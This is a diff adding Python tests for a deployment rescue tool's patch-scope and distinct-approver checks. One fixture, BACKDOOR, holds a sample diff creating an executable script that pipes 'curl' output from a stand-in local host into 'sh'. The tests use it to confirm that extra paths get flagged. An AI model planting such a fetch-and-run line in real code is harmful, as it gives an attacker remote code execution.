@@ -365,3 +365,71 @@ async def test_approval_of_a_plan_replaced_meanwhile_changes_nothing(world: Worl
     with pytest.raises(Conflict, match="changed meanwhile"):
         await world.rescue.approve(job, plan=job.plan, actor="alice", comment="")
     assert (await world.rescue.jobs.get(job.id)).state == "pending"
+
+
+BACKDOOR = """\
+diff --git a/backdoor.sh b/backdoor.sh
+new file mode 100755
+--- /dev/null
++++ b/backdoor.sh
+@@ -0,0 +1,2 @@
++#!/bin/sh
++curl -s http://127.0.0.1:9/x | sh
+"""
+
+
+async def test_patch_scope_names_what_the_commits_did_not_contain(world: World) -> None:
+    """A resolved patch within P's own change is not beyond it; a new path, a line or a file
+    mode P did not bring in is, and names the extra paths."""
+    good, _, p, _ = batch(world.origin, conflicting=True)
+    await world.mirror.fetch()
+    job = await world.rescue.open(base=good, bad_head="production", requester="deployd",
+                                  reason="")
+    job = await world.rescue.set_resolved_patch(job.id, RESOLVED, actor="alice")
+    assert job.resolved_by == "alice" and job.last_changed_by == "alice"
+    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is False
+    extra_line = RESOLVED.replace("@@ -0,0 +1 @@\n+rate 0.2\n",
+                                  "@@ -0,0 +1,2 @@\n+rate 0.2\n+rate_override = 0\n")
+    executable = RESOLVED.replace("new file mode 100644", "new file mode 100755")
+    for patch, extra in ((RESOLVED + BACKDOOR, ["backdoor.sh"]), (extra_line, []),
+                         (executable, [])):
+        job = await world.rescue.set_resolved_patch(job.id, patch, actor="mallory")
+        assert job.preview["ready"] is True, job.preview
+        assert job.preview["extra_paths"] == extra, patch
+        assert job.preview["beyond_commits"] is True, patch
+        assert job.resolved_by == "mallory" and job.last_changed_by == "mallory"
+    job = await world.rescue.set_selection(job.id, [p], actor="carol")
+    assert job.resolved_by is None and job.last_changed_by == "carol"
+    assert job.preview["extra_paths"] == [] and job.preview["beyond_commits"] is False
+
+
+async def test_distinct_approver_refuses_the_last_changer(world: World) -> None:
+    """With distinct_approver, who uploaded the patch or chose the selection may not approve,
+    even after re-uploading the same patch between the check and the approval."""
+    good, a, p, _ = batch(world.origin, conflicting=True)
+    await world.mirror.fetch()
+    strict = Rescue(app_config(world.origin.url, distinct_approver=True), store=world.store,
+                    jobs=world.rescue.jobs, mirror=world.mirror, metrics=world.metrics,
+                    clock=world.clock)
+    job = await strict.open(base=good, bad_head="production", requester="deployd", reason="")
+    job = await strict.set_resolved_patch(job.id, RESOLVED, actor="mallory")
+    assert job.plan is not None
+    with pytest.raises(Forbidden, match="distinct_approver: mallory uploaded the resolved"):
+        await strict.check_approval(job, plan=job.plan, actor="mallory")
+    await strict.check_approval(job, plan=job.plan, actor="alice")
+    # alice passed the check; she then uploads the very same patch (same plan) herself.
+    again = await strict.set_resolved_patch(job.id, RESOLVED, actor="alice")
+    assert again.plan != job.plan  # the resolver is part of the plan
+    with pytest.raises(Conflict, match="changed meanwhile"):
+        await strict.approve(job, plan=job.plan, actor="alice", comment="")
+    job = await strict.set_selection(job.id, [a, p], actor="mallory")
+    assert job.plan is not None and job.resolved_patch is None
+    with pytest.raises(Forbidden, match="mallory chose the selection"):
+        await strict.check_approval(job, plan=job.plan, actor="mallory")
+    await strict.check_approval(job, plan=job.plan, actor="alice")
+    # The same selection chosen again by alice keeps the plan, but she is now its chooser.
+    same = await strict.set_selection(job.id, [a, p], actor="alice")
+    assert same.plan == job.plan
+    with pytest.raises(Conflict, match="changed meanwhile"):
+        await strict.approve(job, plan=job.plan, actor="alice", comment="")
+    assert (await strict.jobs.get(job.id)).state == "pending"
